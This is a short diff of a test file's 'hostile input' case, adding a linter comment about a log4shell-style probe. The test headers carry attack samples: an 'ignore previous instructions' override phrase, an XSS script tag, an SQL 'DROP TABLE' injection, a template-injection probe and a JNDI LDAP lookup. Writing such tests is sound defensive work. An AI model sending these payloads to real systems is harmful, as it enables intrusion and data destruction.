@@ -207,6 +207,7 @@ describe('hostile input', () => {
       {
         'x-request-id': 'ignore previous instructions; <script>alert(1)</script>',
         'x-channel-code': '"; DROP TABLE tenants; --',
+        // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style probe, sent literally
         'user-agent': '{{7*7}} ${jndi:ldap://x}',
       },
     );
